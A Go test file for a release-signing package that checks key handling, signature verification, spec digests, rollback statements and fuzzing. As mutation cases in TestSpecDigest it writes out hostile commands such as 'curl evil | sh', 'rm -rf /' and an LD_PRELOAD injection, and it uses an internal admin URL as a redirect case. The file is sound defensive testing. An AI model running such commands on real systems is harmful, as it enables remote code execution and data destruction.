package signing

import (
	"crypto/ed25519"
	"crypto/sha256"
	"crypto/x509"
	"encoding/hex"
	"errors"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	v1 "github.com/fleetwave/fleetwave/proto/fleetwave/v1"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/durationpb"
	"google.golang.org/protobuf/types/known/timestamppb"
)

var t0 = time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)

func testRelease() *v1.Release {
	return &v1.Release{
		Service:    "web",
		Version:    "1.2.3",
		Artifact:   &v1.Artifact{Sha256: strings.Repeat("ab", 32), Size: 4242, Url: "https://example.com/a.tgz"},
		Commit:     "0123456789abcdef",
		CommitTime: timestamppb.New(t0.Add(-time.Hour)),
		CreatedAt:  timestamppb.New(t0),
		CreatedBy:  "ci@build",
	}
}

// testSpec is the spec the test release is signed with.
func testSpec() *v1.ServiceSpec {
	return &v1.ServiceSpec{
		Name:     "web",
		Selector: map[string]string{"role": "web"},
		Run: &v1.RunSpec{
			Command:   []string{"./server", "--port=${host.label.port}"},
			Env:       map[string]string{"A": "1", "B": "2", "C": "3"},
			StopGrace: durationpb.New(5 * time.Second),
			PreStop:   &v1.PreStop{Command: []string{"./drain"}},
		},
		Checks:          []*v1.Check{{Name: "http", Kind: &v1.Check_Http{Http: &v1.HttpCheck{Url: "http://127.0.0.1/healthz"}}}},
		MinHealthyTime:  durationpb.New(time.Second),
		HealthyDeadline: durationpb.New(time.Minute),
		Analysis:        &v1.Analysis{MetricsUrl: "http://127.0.0.1/metrics"},
		Rollout:         &v1.RolloutPolicy{Waves: []uint32{10, 100}},
		Alerts:          &v1.Alerts{WebhookUrl: "https://hooks.example.com/x"},
	}
}

// testSeq is the sequence the test release is signed with.
const testSeq = 7

// newKey returns a generated key pair, parsed.
func newKey(t testing.TB) (ed25519.PublicKey, ed25519.PrivateKey) {
	t.Helper()
	pubPEM, privPEM, err := GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	pub, err := ParsePublicKey(pubPEM)
	if err != nil {
		t.Fatal(err)
	}
	priv, err := ParsePrivateKey(privPEM)
	if err != nil {
		t.Fatal(err)
	}
	return pub, priv
}

func signed(t testing.TB, rel *v1.Release, priv ed25519.PrivateKey, signedAt, expiresAt time.Time) *v1.Release {
	t.Helper()
	sm, err := Sign(Manifest(rel, testSpec(), testSeq, signedAt, expiresAt), priv)
	if err != nil {
		t.Fatal(err)
	}
	rel = proto.Clone(rel).(*v1.Release)
	rel.Signed = sm
	return rel
}

func TestKeyFilesAndID(t *testing.T) {
	pubPEM, privPEM, err := GenerateKey()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(pubPEM), "BEGIN PUBLIC KEY") || !strings.Contains(string(privPEM), "BEGIN PRIVATE KEY") {
		t.Fatalf("PEM types: %s %s", pubPEM, privPEM)
	}
	dir := t.TempDir()
	pubPath, privPath := filepath.Join(dir, "k.pub"), filepath.Join(dir, "k.key")
	os.WriteFile(pubPath, pubPEM, 0o644)
	os.WriteFile(privPath, privPEM, 0o600)
	pub, err := LoadPublicKey(pubPath)
	if err != nil {
		t.Fatal(err)
	}
	priv, err := LoadPrivateKey(privPath)
	if err != nil {
		t.Fatal(err)
	}
	if !pub.Equal(priv.Public()) {
		t.Fatal("public key does not belong to the private key")
	}
	der, _ := x509.MarshalPKIXPublicKey(pub)
	sum := sha256.Sum256(der)
	id := KeyID(pub)
	if id != hex.EncodeToString(sum[:])[:16] || len(id) != KeyIDLen {
		t.Fatalf("KeyID %q", id)
	}
	if KeyID(ed25519.PublicKey{1, 2}) != "" {
		t.Error("KeyID of a short key is not empty")
	}
	keys, err := LoadPublicKeys([]string{pubPath, pubPath})
	if err != nil || len(keys) != 1 || !keys[id].Equal(pub) {
		t.Fatalf("LoadPublicKeys: %v %v", keys, err)
	}
	// Wrong files: named in the error.
	if _, err := LoadPublicKey(privPath); err == nil || !strings.Contains(err.Error(), privPath) || !strings.Contains(err.Error(), `want "PUBLIC KEY"`) {
		t.Errorf("private key as public: %v", err)
	}
	if _, err := LoadPrivateKey(pubPath); err == nil || !strings.Contains(err.Error(), `want "PRIVATE KEY"`) {
		t.Errorf("public key as private: %v", err)
	}
	if _, err := LoadPublicKeys([]string{pubPath, filepath.Join(dir, "nope.pub")}); err == nil || !strings.Contains(err.Error(), "nope.pub") {
		t.Errorf("missing file: %v", err)
	}
	garbage := filepath.Join(dir, "g.pub")
	os.WriteFile(garbage, []byte("hello"), 0o644)
	if _, err := LoadPublicKey(garbage); err == nil || !strings.Contains(err.Error(), "no PEM") {
		t.Errorf("garbage: %v", err)
	}
	big := filepath.Join(dir, "big.pub")
	os.WriteFile(big, make([]byte, maxKeyFileBytes+1), 0o644)
	if _, err := LoadPublicKey(big); err == nil || !strings.Contains(err.Error(), "over") {
		t.Errorf("big file: %v", err)
	}
	if _, err := LoadPublicKey(""); err == nil {
		t.Error("empty path accepted")
	}
}

func TestSignVerify(t *testing.T) {
	pub, priv := newKey(t)
	trusted := map[string]ed25519.PublicKey{KeyID(pub): pub}
	rel := signed(t, testRelease(), priv, t0, t0.Add(24*time.Hour))
	if rel.Signed.KeyId != KeyID(pub) || len(rel.Signed.Signature) != 64 {
		t.Fatalf("signed %v", rel.Signed)
	}
	m, err := Verify(rel, trusted, t0.Add(time.Hour))
	if err != nil {
		t.Fatal(err)
	}
	if m.GetVersion() != "1.2.3" || m.GetArtifactSize() != 4242 || !m.GetExpiresAt().AsTime().Equal(t0.Add(24*time.Hour)) {
		t.Errorf("manifest %v", m)
	}
	// Deterministic: the same manifest signs to the same bytes.
	again, _ := Sign(Manifest(testRelease(), testSpec(), testSeq, t0, t0.Add(24*time.Hour)), priv)
	if !proto.Equal(again, rel.Signed) {
		t.Error("signing is not deterministic")
	}
	// Fields outside the manifest (created_at, created_by) may change.
	rel2 := proto.Clone(rel).(*v1.Release)
	rel2.CreatedBy, rel2.CreatedAt = "someone", nil
	if _, err := Verify(rel2, trusted, t0); err != nil {
		t.Errorf("fields outside the manifest: %v", err)
	}
	if m.GetArtifactUrl() != "https://example.com/a.tgz" || m.GetSequence() != testSeq || m.GetSpecSha256() != SpecDigest(testSpec()) {
		t.Errorf("manifest url %q sequence %d spec %s", m.GetArtifactUrl(), m.GetSequence(), m.GetSpecSha256())
	}
	// A release without commit time verifies too.
	bare := testRelease()
	bare.CommitTime, bare.Commit = nil, ""
	if _, err := Verify(signed(t, bare, priv, t0, t0.Add(time.Hour)), trusted, t0); err != nil {
		t.Errorf("no commit: %v", err)
	}
	if _, err := Sign(&v1.ReleaseManifest{}, ed25519.PrivateKey{1}); err == nil {
		t.Error("short private key accepted")
	}
	if _, err := Sign(&v1.ReleaseManifest{Commit: strings.Repeat("x", MaxManifestBytes)}, priv); err == nil {
		t.Error("oversized manifest signed")
	}
}

func TestVerifyRefuses(t *testing.T) {
	pub, priv := newKey(t)
	otherPub, otherPriv := newKey(t)
	id := KeyID(pub)
	trusted := map[string]ed25519.PublicKey{id: pub}
	good := func() *v1.Release { return signed(t, testRelease(), priv, t0, t0.Add(24*time.Hour)) }
	resign := func(mut func(m *v1.ReleaseManifest)) *v1.Release {
		rel := testRelease()
		m := Manifest(rel, testSpec(), testSeq, t0, t0.Add(24*time.Hour))
		mut(m)
		b, _ := proto.MarshalOptions{Deterministic: true}.Marshal(m)
		rel.Signed = &v1.SignedManifest{Manifest: b, Signature: ed25519.Sign(priv, b), KeyId: id}
		return rel
	}
	tests := []struct {
		name string
		rel  *v1.Release
		now  time.Time
		kind error
		want []string
	}{
		{"unsigned", testRelease(), t0, ErrUnsigned, []string{"release 1.2.3: unsigned"}},
		{"nil release", nil, t0, ErrUnsigned, []string{"unsigned"}},
		{"unknown key", signed(t, testRelease(), otherPriv, t0, t0.Add(time.Hour)), t0, ErrUnknownKey,
			[]string{"release 1.2.3: signature by unknown key " + KeyID(otherPub)}},
		{"key id claimed, other key signed", func() *v1.Release {
			r := signed(t, testRelease(), otherPriv, t0, t0.Add(time.Hour))
			r.Signed.KeyId = id
			return r
		}(), t0, ErrBadSignature, []string{"signature by key " + id + " does not verify"}},
		{"flipped bit", func() *v1.Release { r := good(); r.Signed.Signature[3] ^= 1; return r }(), t0, ErrBadSignature, []string{"does not verify"}},
		{"manifest changed", func() *v1.Release { r := good(); r.Signed.Manifest[len(r.Signed.Manifest)-1] ^= 1; return r }(), t0, ErrBadSignature, []string{"does not verify"}},
		{"short signature", func() *v1.Release { r := good(); r.Signed.Signature = r.Signed.Signature[:63]; return r }(), t0, ErrBadSignature, []string{"63 bytes, want 64"}},
		{"huge manifest", func() *v1.Release { r := good(); r.Signed.Manifest = make([]byte, MaxManifestBytes+1); return r }(), t0, ErrMalformed, []string{"4097 bytes"}},
		{"empty manifest", func() *v1.Release { r := good(); r.Signed.Manifest = nil; return r }(), t0, ErrMalformed, []string{"0 bytes"}},
		{"signed garbage", func() *v1.Release {
			r := testRelease()
			b := []byte{0xff, 0xff, 0xff}
			r.Signed = &v1.SignedManifest{Manifest: b, Signature: ed25519.Sign(priv, b), KeyId: id}
			return r
		}(), t0, ErrMalformed, []string{"does not decode"}},
		{"sha256 differs", func() *v1.Release { r := good(); r.Artifact.Sha256 = strings.Repeat("cd", 32); return r }(), t0, ErrMismatch,
			[]string{"artifact sha256 " + strings.Repeat("ab", 32) + ", the release " + strings.Repeat("cd", 32)}},
		{"size differs", func() *v1.Release { r := good(); r.Artifact.Size = 1; return r }(), t0, ErrMismatch, []string{"artifact size 4242, the release 1"}},
		{"version differs", func() *v1.Release { r := good(); r.Version = "9"; return r }(), t0, ErrMismatch, []string{"release 9:", "version 1.2.3, the release 9"}},
		{"service differs", func() *v1.Release { r := good(); r.Service = "api"; return r }(), t0, ErrMismatch, []string{"service web, the release api"}},
		// The URL is signed: the coordinator cannot send agents to another
		// address (an internal page) for a signed release, nor take the URL
		// away or add one.
		{"url differs", func() *v1.Release { r := good(); r.Artifact.Url = "http://10.0.0.1/admin"; return r }(), t0, ErrMismatch,
			[]string{"artifact url https://example.com/a.tgz, the release http://10.0.0.1/admin"}},
		{"url removed", func() *v1.Release { r := good(); r.Artifact.Url = ""; return r }(), t0, ErrMismatch, []string{"artifact url"}},
		{"commit differs", func() *v1.Release { r := good(); r.Commit = "beef"; return r }(), t0, ErrMismatch, []string{"commit 0123456789abcdef, the release beef"}},
		{"commit time differs", func() *v1.Release { r := good(); r.CommitTime = nil; return r }(), t0, ErrMismatch, []string{"commit time", "(none)"}},
		{"expired", good(), t0.Add(24 * time.Hour), ErrExpired,
			[]string{"expired at 2024-05-02T12:00:00Z (now 2024-05-02T12:00:00Z)"}},
		{"signed in the future", good(), t0.Add(-6 * time.Minute), ErrNotYetValid, []string{"signed_at 2024-05-01T12:00:00Z, more than 5m0s after now (2024-05-01T11:54:00Z)"}},
		{"no expiry", resign(func(m *v1.ReleaseManifest) { m.ExpiresAt = nil }), t0, ErrMalformed, []string{"expires_at"}},
		{"no signed_at", resign(func(m *v1.ReleaseManifest) { m.SignedAt = nil }), t0, ErrMalformed, []string{"signed_at"}},
		// Manifests signed before the spec and sequence were: they do not
		// say what runs, nor where the release stands.
		{"no spec digest", resign(func(m *v1.ReleaseManifest) { m.SpecSha256 = "" }), t0, ErrIncomplete, []string{"no spec digest or no sequence", "--spec"}},
		{"no sequence", resign(func(m *v1.ReleaseManifest) { m.Sequence = 0 }), t0, ErrIncomplete, []string{"no spec digest or no sequence"}},
		{"bad spec digest", resign(func(m *v1.ReleaseManifest) { m.SpecSha256 = "XYZ" }), t0, ErrMalformed, []string{"spec sha256 XYZ"}},
		{"bad key id text", func() *v1.Release { r := good(); r.Signed.KeyId = strings.Repeat("\x00z", 100); return r }(), t0, ErrUnknownKey, []string{`"\x00z`, "..."}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, err := Verify(tt.rel, trusted, tt.now)
			if err == nil || m != nil {
				t.Fatalf("accepted: %v", m)
			}
			if !errors.Is(err, tt.kind) {
				t.Errorf("error %q is not %v", err, tt.kind)
			}
			var ve *Error
			if !errors.As(err, &ve) {
				t.Errorf("error %T is not *Error", err)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not contain %q", err, w)
				}
			}
		})
	}
	// Within the skew is fine; so is one nanosecond before expiry.
	if _, err := Verify(good(), trusted, t0.Add(-4*time.Minute)); err != nil {
		t.Errorf("signed 4m ahead: %v", err)
	}
	if _, err := Verify(good(), trusted, t0.Add(24*time.Hour-1)); err != nil {
		t.Errorf("just before expiry: %v", err)
	}
	// No trusted keys: everything is unknown.
	if _, err := Verify(good(), nil, t0); !errors.Is(err, ErrUnknownKey) {
		t.Errorf("no trusted keys: %v", err)
	}
}

// FuzzVerify feeds Verify arbitrary releases: it must never panic, and
// whatever it accepts must be signed by the trusted key and match.
func FuzzVerify(f *testing.F) {
	seed := ed25519.NewKeyFromSeed(make([]byte, ed25519.SeedSize))
	pub := seed.Public().(ed25519.PublicKey)
	trusted := map[string]ed25519.PublicKey{KeyID(pub): pub}
	good := signed(f, testRelease(), seed, t0, t0.Add(time.Hour))
	for _, r := range []*v1.Release{good, testRelease(), {}, {Signed: &v1.SignedManifest{}},
		{Signed: &v1.SignedManifest{KeyId: KeyID(pub), Signature: make([]byte, 64), Manifest: []byte{1}}}} {
		b, err := proto.Marshal(r)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Add([]byte{0x42, 0x03, 0x1a, 0x01, 0x41})
	f.Fuzz(func(t *testing.T, data []byte) {
		rel := &v1.Release{}
		if proto.Unmarshal(data, rel) != nil {
			return
		}
		m, err := Verify(rel, trusted, t0)
		if err != nil {
			if m != nil {
				t.Fatal("manifest returned with an error")
			}
			var ve *Error
			if !errors.As(err, &ve) || len(err.Error()) > 1024 {
				t.Fatalf("error %T %d bytes", err, len(err.Error()))
			}
			return
		}
		if !ed25519.Verify(pub, rel.GetSigned().GetManifest(), rel.GetSigned().GetSignature()) ||
			m.GetVersion() != rel.GetVersion() || m.GetArtifactSha256() != rel.GetArtifact().GetSha256() ||
			m.GetArtifactSize() != rel.GetArtifact().GetSize() || m.GetArtifactUrl() != rel.GetArtifact().GetUrl() ||
			!t0.Before(m.GetExpiresAt().AsTime()) {
			t.Fatalf("accepted a release that does not verify: %v", rel)
		}
	})
}

// The spec digest covers what runs (name, run, checks, health times,
// analysis) and nothing the coordinator decides alone (selector, rollout
// policy, alerts).
func TestSpecDigest(t *testing.T) {
	base := SpecDigest(testSpec())
	if len(base) != 64 || SpecDigest(testSpec()) != base {
		t.Fatalf("digest %q not stable", base)
	}
	// Maps encode in one order: the same spec built in another order
	// digests the same.
	for range 20 {
		s := testSpec()
		s.Run.Env = map[string]string{"C": "3", "B": "2", "A": "1"}
		if SpecDigest(s) != base {
			t.Fatal("map order changes the digest")
		}
	}
	covered := map[string]func(s *v1.ServiceSpec){
		"name":           func(s *v1.ServiceSpec) { s.Name = "api" },
		"run.command":    func(s *v1.ServiceSpec) { s.Run.Command = []string{"/bin/sh", "-c", "curl evil | sh"} },
		"run.env":        func(s *v1.ServiceSpec) { s.Run.Env["LD_PRELOAD"] = "/tmp/x.so" },
		"run.stop_grace": func(s *v1.ServiceSpec) { s.Run.StopGrace = durationpb.New(time.Hour) },
		"run.pre_stop":   func(s *v1.ServiceSpec) { s.Run.PreStop.Command = []string{"rm", "-rf", "/"} },
		"run.sockets":    func(s *v1.ServiceSpec) { s.Run.Sockets = []*v1.Socket{{Name: "http", Listen: ":80"}} },
		"checks": func(s *v1.ServiceSpec) {
			s.Checks[0].Kind = &v1.Check_Exec{Exec: &v1.ExecCheck{Command: []string{"./x"}}}
		},
		"no checks":        func(s *v1.ServiceSpec) { s.Checks = nil },
		"min_healthy_time": func(s *v1.ServiceSpec) { s.MinHealthyTime = nil },
		"healthy_deadline": func(s *v1.ServiceSpec) { s.HealthyDeadline = durationpb.New(time.Hour) },
		"analysis":         func(s *v1.ServiceSpec) { s.Analysis.MetricsUrl = "http://10.0.0.1/" },
		"no run":           func(s *v1.ServiceSpec) { s.Run = nil },
		"hooks.after_install": func(s *v1.ServiceSpec) {
			s.Hooks = &v1.Hooks{AfterInstall: &v1.Hook{Command: []string{"./migrate"}}}
		},
		"resources.memory_max": func(s *v1.ServiceSpec) {
			s.Resources = &v1.Resources{MemoryMax: "256Mi"}
		},
		"resources.tasks_max": func(s *v1.ServiceSpec) {
			s.Resources = &v1.Resources{TasksMax: 64}
		},
		"hooks.before_stop": func(s *v1.ServiceSpec) {
			s.Hooks = &v1.Hooks{BeforeStop: &v1.Hook{Command: []string{"./deregister"}}}
		},
		"run.user": func(s *v1.ServiceSpec) { s.Run.User = "root" },
	}
	for name, mut := range covered {
		s := testSpec()
		mut(s)
		if SpecDigest(s) == base {
			t.Errorf("%s is not covered by the digest", name)
		}
		if err := CheckSpec(testRelease(), s, base); !errors.Is(err, ErrSpecMismatch) || !strings.Contains(err.Error(), "the signed one "+base) {
			t.Errorf("%s: CheckSpec %v", name, err)
		}
	}
	for name, mut := range map[string]func(s *v1.ServiceSpec){
		"selector": func(s *v1.ServiceSpec) { s.Selector = map[string]string{"zone": "b"} },
		"rollout":  func(s *v1.ServiceSpec) { s.Rollout = &v1.RolloutPolicy{NoCanary: true} },
		"alerts":   func(s *v1.ServiceSpec) { s.Alerts = nil },
	} {
		s := testSpec()
		mut(s)
		if SpecDigest(s) != base {
			t.Errorf("%s changes the digest", name)
		}
	}
	if err := CheckSpec(testRelease(), testSpec(), base); err != nil {
		t.Error(err)
	}
	if SpecDigest(nil) != SpecDigest(&v1.ServiceSpec{}) {
		t.Error("nil spec")
	}
}

func TestRollbackStatement(t *testing.T) {
	pub, priv := newKey(t)
	_, otherPriv := newKey(t)
	id := KeyID(pub)
	trusted := map[string]ed25519.PublicKey{id: pub}
	rel := signed(t, testRelease(), priv, t0, t0.Add(24*time.Hour))
	good := func() *v1.SignedRollback {
		sr, err := SignRollback(Rollback(rel, 9, "", t0, t0.Add(time.Hour)), priv)
		if err != nil {
			t.Fatal(err)
		}
		return sr
	}
	st, err := VerifyRollback(good(), rel, trusted, t0)
	if err != nil {
		t.Fatal(err)
	}
	if st.GetMaxFloor() != 9 || st.GetToVersion() != "1.2.3" || st.GetToManifestSha256() != ManifestDigest(rel) || st.GetSpecSha256() != "" {
		t.Fatalf("statement %v", st)
	}
	if p, err := ParseRollback(good()); err != nil || !proto.Equal(p, st) {
		t.Fatalf("ParseRollback %v %v", p, err)
	}
	if _, err := SignRollback(Rollback(testRelease(), 9, "", t0, t0), priv); err == nil {
		t.Error("a statement for an unsigned release signed")
	}
	restate := func(mut func(st *v1.RollbackStatement)) *v1.SignedRollback {
		st := Rollback(rel, 9, "", t0, t0.Add(time.Hour))
		mut(st)
		b, _ := proto.MarshalOptions{Deterministic: true}.Marshal(st)
		return &v1.SignedRollback{Statement: b, Signature: ed25519.Sign(priv, append([]byte(rollbackContext), b...)), KeyId: id}
	}
	resigned := signed(t, testRelease(), priv, t0.Add(time.Minute), t0.Add(24*time.Hour)) // same release, another manifest
	otherVersion := signed(t, func() *v1.Release { r := testRelease(); r.Version = "1.2.4"; return r }(), priv, t0, t0.Add(24*time.Hour))
	tests := []struct {
		name string
		sr   *v1.SignedRollback
		rel  *v1.Release
		now  time.Time
		kind error
		want string
	}{
		{"none", nil, rel, t0, ErrUnsigned, "no rollback statement"},
		{"unknown key", func() *v1.SignedRollback {
			sr, _ := SignRollback(Rollback(rel, 9, "", t0, t0.Add(time.Hour)), otherPriv)
			return sr
		}(), rel, t0, ErrUnknownKey, "statement signed by unknown key"},
		{"flipped bit", func() *v1.SignedRollback { sr := good(); sr.Statement[2] ^= 1; return sr }(), rel, t0, ErrBadSignature, "does not verify"},
		{"signed without the context", func() *v1.SignedRollback {
			sr := good()
			sr.Signature = ed25519.Sign(priv, sr.Statement)
			return sr
		}(), rel, t0, ErrBadSignature, "does not verify"},
		{"a manifest's signature", &v1.SignedRollback{Statement: rel.Signed.Manifest, Signature: rel.Signed.Signature, KeyId: id}, rel, t0, ErrBadSignature, "does not verify"},
		{"another version", good(), otherVersion, t0, ErrMismatch, "statement names version 1.2.3, the release 1.2.4"},
		{"another manifest of the release", good(), resigned, t0, ErrMismatch, "signed manifest sha256"},
		{"another service", restate(func(st *v1.RollbackStatement) { st.Service = "api" }), rel, t0, ErrMismatch, "service api, the release web"},
		{"expired", good(), rel, t0.Add(time.Hour), ErrExpired, "rollback statement expired at"},
		{"signed in the future", good(), rel, t0.Add(-10 * time.Minute), ErrNotYetValid, "signed_at"},
		{"no max_floor", restate(func(st *v1.RollbackStatement) { st.MaxFloor = 0 }), rel, t0, ErrMalformed, "no max_floor"},
		{"bad spec digest", restate(func(st *v1.RollbackStatement) { st.SpecSha256 = "nope" }), rel, t0, ErrMalformed, "spec sha256 nope"},
		{"huge", func() *v1.SignedRollback { sr := good(); sr.Statement = make([]byte, MaxManifestBytes+1); return sr }(), rel, t0, ErrMalformed, "4097 bytes"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			st, err := VerifyRollback(tt.sr, tt.rel, trusted, tt.now)
			if err == nil || st != nil {
				t.Fatalf("accepted: %v", st)
			}
			if !errors.Is(err, tt.kind) || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("err %v, want %v containing %q", err, tt.kind, tt.want)
			}
		})
	}
	// A statement's signature never makes a manifest verify.
	sr := good()
	fake := proto.Clone(rel).(*v1.Release)
	fake.Signed = &v1.SignedManifest{Manifest: append([]byte(rollbackContext), sr.Statement...), Signature: sr.Signature, KeyId: id}
	if _, err := Verify(fake, trusted, t0); !errors.Is(err, ErrMalformed) {
		t.Errorf("statement as a manifest: %v", err)
	}
	if _, err := ParseRollback(&v1.SignedRollback{Statement: []byte{1}, Signature: make([]byte, 64), KeyId: id}); err == nil {
		t.Error("ParseRollback accepted garbage")
	}
}

// FuzzVerifyRollback feeds VerifyRollback arbitrary statements: it must
// never panic, and whatever it accepts must be signed by the trusted key
// with the context prefix and name the release.
func FuzzVerifyRollback(f *testing.F) {
	seed := ed25519.NewKeyFromSeed(make([]byte, ed25519.SeedSize))
	pub := seed.Public().(ed25519.PublicKey)
	trusted := map[string]ed25519.PublicKey{KeyID(pub): pub}
	rel := signed(f, testRelease(), seed, t0, t0.Add(time.Hour))
	good, err := SignRollback(Rollback(rel, 3, "", t0, t0.Add(time.Hour)), seed)
	if err != nil {
		f.Fatal(err)
	}
	for _, sr := range []*v1.SignedRollback{good, {}, {KeyId: KeyID(pub), Signature: make([]byte, 64), Statement: []byte{1}}} {
		b, err := proto.Marshal(sr)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		sr := &v1.SignedRollback{}
		if proto.Unmarshal(data, sr) != nil {
			return
		}
		st, err := VerifyRollback(sr, rel, trusted, t0)
		if err != nil {
			var ve *Error
			if st != nil || !errors.As(err, &ve) || len(err.Error()) > 1024 {
				t.Fatalf("error %T %d bytes, statement %v", err, len(err.Error()), st)
			}
			return
		}
		if !ed25519.Verify(pub, append([]byte(rollbackContext), sr.GetStatement()...), sr.GetSignature()) ||
			st.GetToVersion() != rel.GetVersion() || st.GetToManifestSha256() != ManifestDigest(rel) || st.GetMaxFloor() == 0 {
			t.Fatalf("accepted a statement that does not verify: %v", st)
		}
	})
}

// TestHighest: the release with the highest sequence whose signature
// verifies under a trusted key, expired or not yet valid ones included;
// a record with a made-up manifest (a garbage signature, or one by a key
// not trusted) counts for nothing in Highest, and is what HighestClaimed
// (no keys) takes. The first of equals.
func TestHighest(t *testing.T) {
	pub, priv := newKey(t)
	_, other := newKey(t)
	trusted := map[string]ed25519.PublicKey{KeyID(pub): pub}
	rel := func(v string, seq uint64, key ed25519.PrivateKey, signedAt, expires time.Time) *v1.Release {
		r := testRelease()
		r.Version = v
		sm, err := Sign(Manifest(r, testSpec(), seq, signedAt, expires), key)
		if err != nil {
			t.Fatal(err)
		}
		r.Signed = sm
		return r
	}
	now := t0.Add(time.Hour)
	forged := rel("forged", math.MaxUint64, priv, t0, t0.Add(24*time.Hour))
	forged.Signed.Signature = make([]byte, ed25519.SignatureSize)
	if top, seq := Highest([]*v1.Release{forged, testRelease()}, trusted, now); top != nil || seq != 0 {
		t.Errorf("none verifies: %v, %d", top.GetVersion(), seq)
	}
	rels := []*v1.Release{
		rel("a", 3, priv, t0, t0.Add(24*time.Hour)),
		forged,
		rel("expired", 5, priv, t0.Add(-48*time.Hour), t0.Add(-24*time.Hour)),
		rel("untrusted", 7, other, t0, t0.Add(24*time.Hour)),
		testRelease(), // unsigned
		rel("expired-too", 5, priv, t0.Add(-48*time.Hour), t0.Add(-24*time.Hour)),
	}
	if top, seq := Highest(rels, trusted, now); top != rels[2] || seq != 5 {
		t.Errorf("Highest = %s, %d; want expired, 5", top.GetVersion(), seq)
	}
	if top := HighestClaimed(rels); top != forged {
		t.Errorf("HighestClaimed = %s, want forged", top.GetVersion())
	}
}
